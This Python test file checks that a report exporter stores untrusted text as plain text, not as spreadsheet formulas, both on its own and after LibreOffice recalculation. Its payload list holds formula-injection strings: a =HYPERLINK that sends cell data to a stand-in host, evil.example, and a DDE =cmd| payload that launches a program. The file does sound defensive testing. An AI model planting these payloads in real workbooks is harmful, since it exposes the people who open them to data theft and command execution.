"""R14: text from reports and file names never becomes a formula in a workbook we write — checked in the
file, and by LibreOffice recalculating everything it opens (as it ran =HYPERLINK and =cmd| before)."""
from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest

from gik_editor.batch import BatchResult
from gik_editor.batch_xlsx import write_summary
from tests.exporters.test_xlsx_libreoffice import RECALC_ALWAYS

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
HOSTILE_TEXTS = ['=HYPERLINK("http://evil.example/?x="&A2,"点此查看")', "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+2",
                 "@SUM(1,2)", "\t=1+1", "\r=2+2", "=A1", "-", "+", "@"]


def results_workbook(path: Path) -> None:
    rows = [BatchResult(file=f"{text}.gik", organ=text, year=2020, errors=1, rules=("T3-1",),
                        findings=(("错误", "T3-1", text, text),)) for text in HOSTILE_TEXTS]
    write_summary(rows, path)


def test_every_risky_start_is_stored_as_text_with_the_quote_prefix(tmp_path):
    results_workbook(tmp_path / "r.xlsx")
    book = openpyxl.load_workbook(tmp_path / "r.xlsx")
    for ws in book.worksheets:
        organs = [(c.value, c.data_type, c.quotePrefix) for c in ws["B"][1:]]
        assert organs == [(t, "s", True) for t in HOSTILE_TEXTS]
        assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
def test_libreoffice_recalculating_everything_shows_the_text_and_runs_nothing(tmp_path):
    src, out, profile = tmp_path / "in", tmp_path / "out", tmp_path / "profile"
    src.mkdir()
    results_workbook(src / "r.xlsx")
    (profile / "user").mkdir(parents=True)
    (profile / "user" / "registrymodifications.xcu").write_text(RECALC_ALWAYS)
    done = subprocess.run([SOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to",
                           "xlsx", "--outdir", str(out), str(src / "r.xlsx")], capture_output=True, timeout=300)
    assert done.returncode == 0, done.stderr
    book = openpyxl.load_workbook(out / "r.xlsx", data_only=True)
    shown = [c.value for c in book["报告"]["B"][1:]]
    # exactly the text (LibreOffice reads a CR in a cell as a line break), no result of any formula
    assert [s.replace("\n", "\r") if s else s for s in shown] == HOSTILE_TEXTS
    formulas = openpyxl.load_workbook(out / "r.xlsx")
    assert not [c.coordinate for ws in formulas.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
